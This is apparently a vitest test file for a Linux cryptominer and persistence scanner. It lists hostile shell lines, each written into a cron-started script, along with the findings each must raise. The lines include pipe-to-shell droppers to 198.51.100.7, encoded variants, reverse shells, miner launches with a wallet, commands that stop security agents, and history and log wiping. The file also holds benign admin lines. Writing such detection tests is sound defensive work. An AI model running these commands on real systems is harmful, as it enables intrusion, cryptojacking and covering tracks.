/**
 * The behaviour rules of command-lines.yaml as they fire inside a started script: each
 * malicious line is the third line of its own script, which /etc/crontab starts, and
 * must give exactly the listed findings (rule and severity) at that script's path and
 * line; ordinary administration scripts started the same way give nothing of medium
 * severity or more; a script that only looks for a miner is not high, and one that
 * kills a single miner in a cleanup is medium at most; hostile lines stay fast.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { cronCheck } from '../../src/checks/cron.js';
import { startedScriptsCheck } from '../../src/checks/started-scripts.js';
import { severityRank, type Finding } from '../../src/model/finding.js';
import { findEncodedPayloads } from '../../src/rules/decode.js';
import { builtinRules, scanDirectory } from '../helpers/scan-dir.js';
import { makeScratchDir, removeScratchDir } from '../helpers/images.js';

const b64 = (s: string) => Buffer.from(s).toString('base64');
const hex = (s: string) => Buffer.from(s).toString('hex');
const escapes = (s: string) => [...Buffer.from(s)].map((b) => `\\x${b.toString(16).padStart(2, '0')}`).join('');
const reversed = (s: string) => [...s].reverse().join('');
const DROPPER = 'curl -fsSL http://198.51.100.7/x.sh | sh';
const WALLET = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';

/** A line, and every finding it must give ("rule severity"), sorted. */
const MALICIOUS: [string, string[]][] = [
  // Download and run, every spelling.
  [DROPPER, ['command.download-and-run high']],
  ['busybox wget -qO- http://198.51.100.7/x.sh | sh', ['command.download-and-run high']],
  ['fetch -qo - http://198.51.100.7/x.sh | sh', ['command.download-and-run high']],
  ['GET http://198.51.100.7/x.sh | bash', ['command.download-and-run high']],
  ['nc 198.51.100.7 8080 | sh', ['command.download-and-run high']],
  ['bash -c "$(wget -qO- http://198.51.100.7/x.sh)"', ['command.download-and-run high']],
  ['. <(curl -s http://198.51.100.7/env)', ['command.download-and-run high']],
  ['lwp-download http://198.51.100.7/x /usr/local/lib/x; chmod +x /usr/local/lib/x; /usr/local/lib/x', ['command.download-and-exec high']],
  ['tftp -g -r x.sh 198.51.100.7; sh x.sh', ['command.download-and-exec high']],
  [
    'wget -q http://198.51.100.7/k -O /tmp/k; chmod +x /tmp/k; /tmp/k',
    ['command.download-and-exec high', 'command.download-to-temp low', 'command.started-from-temp high'],
  ],
  ['curl -s -o /tmp/.ICE-unix/.x http://198.51.100.7/x', ['command.download-to-hidden-temp medium']],
  [`python -c 'import urllib;exec(urllib.urlopen("http://198.51.100.7/d.py").read())'`, ['command.interpreter-download-and-run high']],
  [`python3 -c "import urllib.request as u;exec(u.urlopen('http://198.51.100.7/x').read())"`, ['command.interpreter-download-and-run high']],
  [`python3 -c "import urllib.request;print(urllib.request.urlopen('http://198.51.100.7/x').read().decode())" | sh`, ['command.interpreter-download-and-run high']],
  [`perl -e 'use LWP::Simple;eval(get("http://198.51.100.7/x"))'`, ['command.interpreter-download-and-run high']],
  [`perl -MIO::Socket -e '$c=new IO::Socket::INET(PeerAddr,"198.51.100.7:4444");system$_ while<$c>;'`, ['command.interpreter-download-and-run high']],
  [`php -r 'eval(file_get_contents("http://198.51.100.7/x"));'`, ['command.interpreter-download-and-run high']],
  // /dev/tcp and raw sockets.
  ['exec 3<>/dev/tcp/198.51.100.7/80', ['command.dev-tcp-connection medium']],
  ['echo -e "GET /x.sh HTTP/1.1\\r\\nHost: h\\r\\n\\r\\n" >&3', ['command.dev-tcp-download high']],
  ['exec 3<>/dev/tcp/198.51.100.7/80;echo -e "GET /x.sh HTTP/1.0\\r\\n\\r\\n">&3;cat<&3|sh', ['command.dev-tcp-connection medium', 'command.dev-tcp-download high', 'command.download-and-run high']],
  ['bash -i >& /dev/tcp/198.51.100.7/4444 0>&1', ['command.reverse-shell high']],
  ['nc -e /bin/sh 198.51.100.7 4444', ['command.reverse-shell high']],
  // Encoded payloads: the wrapper fires, and the decoded dropper fires too.
  [`echo ${b64(DROPPER)} | base64 -d | sh`, ['command.base64-to-shell high', 'command.download-and-run high']],
  [`base64 --decode <<< ${b64(DROPPER)} | sh`, ['command.base64-to-shell high', 'command.download-and-run high']],
  [`python -c "import base64;exec(base64.b64decode('${b64(DROPPER)}'))"`, ['command.base64-to-shell high', 'command.download-and-run high']],
  [`perl -MMIME::Base64 -e 'eval(decode_base64("${b64(DROPPER)}"))'`, ['command.base64-to-shell high', 'command.download-and-run high']],
  [`echo ${hex(DROPPER)} | xxd -r -p | sh`, ['command.download-and-run high', 'command.hex-to-shell high']],
  [`printf '${escapes(DROPPER)}' | bash`, ['command.download-and-run high', 'command.hex-to-shell high']],
  [`rev <<< '${reversed(DROPPER)}' | bash`, ['command.download-and-run high', 'command.reversed-to-shell high']],
  [`$(echo '${reversed(DROPPER)}' | rev)`, ['command.download-and-run high', 'command.reversed-to-shell high']],
  // Running a miner.
  ['nohup ./xmrig -c config.json >/dev/null 2>&1 &', ['command.miner high']],
  [`/opt/.m/kworker -o pool.example.org:3333 -u ${WALLET} -p x`, ['command.miner high', 'command.started-from-hidden high']],
  ['/usr/bin/.sshd -B', ['command.started-hidden-system-binary high']],
  ['/opt/m/xmrig-notls -c /opt/m/config.json', ['command.started-miner high']],
  // Clearing the host for itself: a list of miners, a pool port, security agents.
  ["pkill -f 'xmrig|kdevtmpfsi|minerd'", ['command.kill-miner medium', 'command.kill-miners high']],
  // Kinsing by name: downloading it is the family; killing it is what its competitors (and cleanups) do.
  ['wget -q http://203.0.113.9/kinsing -O /etc/kinsing', ['kinsing.download critical']],
  ['pkill -f kdevtmpfsi', ['command.kill-miner medium']],
  ['killall -9 xmrig minerd cpuminer', ['command.kill-miner medium', 'command.kill-miners high']],
  ["ps aux | grep -E 'xmrig|cpuminer' | awk '{print $2}' | xargs kill -9", ['command.kill-miner medium', 'command.kill-miners high']],
  ["netstat -anp | grep :3333 | awk '{print $7}' | awk -F'[/]' '{print $1}' | xargs kill -9", ['command.kill-miners high']],
  ['kill -9 $(pgrep xmrig)', ['command.kill-miner medium']],
  ["ps aux | grep -v grep | grep 'xmrig' | awk '{print $2}' | xargs kill -9", ['command.kill-miner medium']],
  ['systemctl stop aliyun', ['command.kill-security-agent high']],
  ['systemctl stop aegis', ['command.kill-security-agent high']],
  ['systemctl disable --now aliyun-service', ['command.kill-security-agent high']],
  ['/usr/local/aegis/uninstall', ['command.kill-security-agent high']],
  ['rm -rf /usr/local/qcloud', ['command.kill-security-agent high']],
  ['pkill -9 AliYunDun', ['command.kill-security-agent high']],
  ['/usr/local/qcloud/stargate/admin/uninstall.sh', ['command.kill-security-agent high']],
  // Staying and hiding.
  ['chattr +i /root/.ssh/authorized_keys', ['command.chattr-lock high']],
  ['chattr +ia /etc/ld.so.preload', ['command.chattr-lock high']],
  ['chattr -ia /etc/ld.so.preload', ['command.chattr medium']],
  ['chattr -i /etc/crontab', ['command.chattr medium']],
  ['history -c', ['command.history-wipe medium']],
  ['unset HISTFILE', ['command.history-wipe medium']],
  ['export HISTFILE=/dev/null', ['command.history-wipe medium']],
  ['export HISTSIZE=0', ['command.history-wipe medium']],
  ['> ~/.bash_history', ['command.history-wipe medium']],
  ['rm -f ~/.bash_history', ['command.history-wipe medium']],
  ['ln -sf /dev/null ~/.bash_history', ['command.history-wipe medium']],
  ['setenforce 0', ['command.disable-security medium']],
  ['ufw disable', ['command.disable-security medium']],
  ['iptables -F', ['command.firewall-flush low']],
  ['chattr +i /etc/resolv.conf', ['command.chattr-lock-other low']],
  ["sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config", ['command.disable-security medium']],
  ['> /var/log/wtmp', ['command.log-wipe medium']],
  ['echo > /var/log/secure', ['command.log-wipe medium']],
];

/** Lines of ordinary administration: nothing of medium severity or more. */
const ADMIN: string[] = [
  // A firewall script starts from clean tables; DHCP must not rewrite resolv.conf.
  'iptables -F',
  'iptables -X',
  'chattr +i /etc/resolv.conf',
  'curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/5f3c6a9e-8d1b-4c2a-9f7e-1a2b3c4d5e6f',
  'curl -T backup.tar.gz -u user:pw https://backup.example.com/',
  'certbot renew --quiet',
  '/usr/bin/node /opt/app/server.js',
  'java -jar /opt/app/app.jar',
  'wget -q -O /tmp/feed.xml https://example.com/feed && /usr/local/bin/import /tmp/feed.xml',
  'curl -fsSL https://download.docker.com/linux/debian/gpg | gpg --dearmor -o /etc/apt/keyrings/docker.gpg',
  'curl -sSf https://example.com/healthz > /dev/null || systemctl restart app',
  'git fetch origin && git reset --hard origin/main',
  'git rev-parse HEAD > /srv/app/REVISION',
  'timeout 1 bash -c "</dev/tcp/db.internal/5432" && echo up',
  'rsync -az /srv/ backup@backup.example.com:/srv/',
  'pg_dump app | gzip > /var/backups/app.sql.gz',
  'find /var/log/app -name "*.log.*" -mtime +14 -delete',
  'systemctl restart nginx',
  'systemctl stop apache2',
  "perl -e 'sleep int(rand(43200))' && certbot -q renew",
  'python3 -c "import sys; print(sys.version)"',
  'kill -HUP $(cat /run/nginx.pid)',
  "pkill -f 'gunicorn: master'",
  'iptables -A INPUT -p tcp --dport 22 -j ACCEPT',
  'export HISTSIZE=10000',
  'echo "$(date) backup done" >> /var/log/backup.log',
];

/** An administrator's miner watch: it names xmrig everywhere and runs none. */
const MINER_WATCH = `#!/bin/bash
# Alert when a miner shows up on this host.
if pgrep -x xmrig >/dev/null; then
  echo "xmrig found on $(hostname)" | mail -s "miner alert" admin@example.com
fi
ps aux | grep xmrig | grep -v grep >> /var/log/miner-watch.log
for p in /proc/[0-9]*; do grep -qa xmrig "$p/cmdline" 2>/dev/null && echo "xmrig in $p"; done
grep -q xmrig /proc/*/cmdline && logger -t miner-watch "xmrig running"
`;

/** An administrator's cleanup after an incident: kills the one miner it found. */
const CLEANUP = `#!/bin/sh
# Incident 4711: remove the miner found on this host.
pkill -9 -f xmrig
rm -rf /var/tmp/.xm
`;

/** A miner's own script: one kill line per competitor. */
const COMPETITOR_KILLER = `#!/bin/sh
pkill -f kdevtmpfsi
pkill -f cpuminer
kill -9 $(pgrep minerd)
`;

describe('behaviour rules in started scripts', () => {
  let scratch: string;
  let findings: Finding[];

  beforeAll(async () => {
    scratch = await makeScratchDir('minescan-script-behaviour-');
    const crontab: string[] = [];
    const put = async (rel: string, text: string) => {
      await mkdir(path.dirname(path.join(scratch, rel)), { recursive: true });
      await writeFile(path.join(scratch, rel), text, { mode: 0o755 });
      crontab.push(`*/5 * * * * root /${rel}`);
    };
    for (const [i, [line]] of MALICIOUS.entries()) await put(`usr/local/bin/bad-${i}.sh`, `#!/bin/sh\n# job ${i}\n${line}\n`);
    for (const [i, line] of ADMIN.entries()) await put(`usr/local/bin/admin-${i}.sh`, `#!/bin/sh\n# job ${i}\n${line}\n`);
    await put('usr/local/sbin/miner-watch', MINER_WATCH);
    await put('usr/local/sbin/cleanup-4711', CLEANUP);
    await put('opt/.k/killer.sh', COMPETITOR_KILLER);
    await mkdir(path.join(scratch, 'etc'), { recursive: true });
    await writeFile(path.join(scratch, 'etc/crontab'), `${crontab.join('\n')}\n`);
    const result = await scanDirectory(scratch, [cronCheck, startedScriptsCheck]);
    expect(result.errors).toEqual([]);
    findings = result.findings;
  });

  afterAll(async () => {
    if (scratch) await removeScratchDir(scratch);
  });

  const at = (p: string) => findings.filter((f) => f.path === p);

  it.each(MALICIOUS.map(([line, expected], i) => [i, line, expected] as const))('%i: %s', (i, line, expected) => {
    const own = at(`/usr/local/bin/bad-${i}.sh`);
    expect(own.map((f) => `${f.rule} ${f.severity}`).sort()).toEqual(expected);
    for (const f of own) {
      expect(f.line).toBe(3);
      expect(f.category).toBe('persistence/script');
      expect(f.message).toContain(`(script started by /etc/crontab:${i + 1})`);
      expect(f.message).not.toMatch(/\{[a-z]+\}/);
      expect(f.remediation).toContain(`sed -i '3d' /usr/local/bin/bad-${i}.sh`);
      expect(f.remediation).not.toMatch(/\{[a-z]+\}/);
    }
  });

  it('reports a decoded payload as decoded, from the script line it was in', () => {
    const i = MALICIOUS.findIndex(([line]) => line.startsWith('echo ') && line.includes('base64 -d'));
    const decoded = at(`/usr/local/bin/bad-${i}.sh`).find((f) => f.rule === 'command.download-and-run')!;
    expect(decoded.evidence).toBe(`base64-decoded: ${DROPPER}`);
    expect(decoded.message).toContain(`a base64 payload decoded from /usr/local/bin/bad-${i}.sh:3`);
    const j = MALICIOUS.findIndex(([line]) => line.startsWith('rev <<<'));
    expect(at(`/usr/local/bin/bad-${j}.sh`).find((f) => f.rule === 'command.download-and-run')!.evidence).toBe(`reversed: ${DROPPER}`);
  });

  it('names the pools and wallets of a miner line for block lists', () => {
    const i = MALICIOUS.findIndex(([line]) => line.includes(WALLET));
    const miner = at(`/usr/local/bin/bad-${i}.sh`).find((f) => f.rule === 'command.miner')!;
    expect(miner.indicators).toEqual({ pools: ['pool.example.org:3333'], wallets: [WALLET] });
    const j = MALICIOUS.findIndex(([line]) => line.startsWith('nohup ./xmrig'));
    expect(at(`/usr/local/bin/bad-${j}.sh`).find((f) => f.rule === 'command.miner')!.indicators).toBeUndefined();
  });

  it('leaves ordinary administration below medium', () => {
    for (const [i, line] of ADMIN.entries()) {
      const loud = at(`/usr/local/bin/admin-${i}.sh`).filter((f) => severityRank(f.severity) >= severityRank('medium'));
      expect(loud.map((f) => `${line}: ${f.rule}`)).toEqual([]);
    }
    expect(at('/usr/local/sbin/miner-watch')).toEqual([]);
  });

  it('keeps a one-miner cleanup at medium, and a list killed one per line high', () => {
    expect(at('/usr/local/sbin/cleanup-4711').map((f) => `${f.rule} ${f.severity} ${f.line}`)).toEqual(['command.kill-miner medium 3']);
    const killer = at('/opt/.k/killer.sh').map((f) => `${f.rule} ${f.severity} ${f.line}`);
    expect(killer.sort()).toEqual([
      'command.kill-miner medium 2',
      'command.kill-miner medium 3',
      'command.kill-miner medium 4',
      'command.kill-miners-lines high 2',
    ]);
    const list = at('/opt/.k/killer.sh').find((f) => f.rule === 'command.kill-miners-lines')!;
    expect(list.message).toContain('kills 3 miner processes by name');
    expect(list.evidence).toBe('2: pkill -f kdevtmpfsi; 3: pkill -f cpuminer; 4: kill -9 $(pgrep minerd)');
  });

  it('stays fast on hostile lines', async () => {
    const rules = await builtinRules();
    const units = ['curl ', 'grep xmrig ', '\\x41', 'python -c exec ', 'pkill xmrig ', '/dev/tcp/a/1 ', 'xxd -r ', "rev <<< '", '| ', 'kill $(pgrep ', 'chattr +i /etc/ ', 'netstat 3333 '];
    for (const unit of units) {
      const line = unit.repeat(Math.ceil(8192 / unit.length)).slice(0, 8192);
      const hits = rules.matchLines('script', '/x', line);
      // One line: each rule matched it at most once.
      expect(new Set(hits.map((h) => h.rule.id)).size, unit).toBe(hits.length);
    }
    // Payloads are decoded from the whole line (up to 512 KiB), not its bounded head and tail.
    for (const unit of ["rev <<< '", "echo '", 'echo 41', '\\x41', "echo 'a b' | rev ", 'echo QUFB', 'b64decode("']) {
      const line = unit.repeat(Math.ceil(600_000 / unit.length));
      expect(findEncodedPayloads(line).length).toBeLessThanOrEqual(16);
    }
  }, 60_000);
});
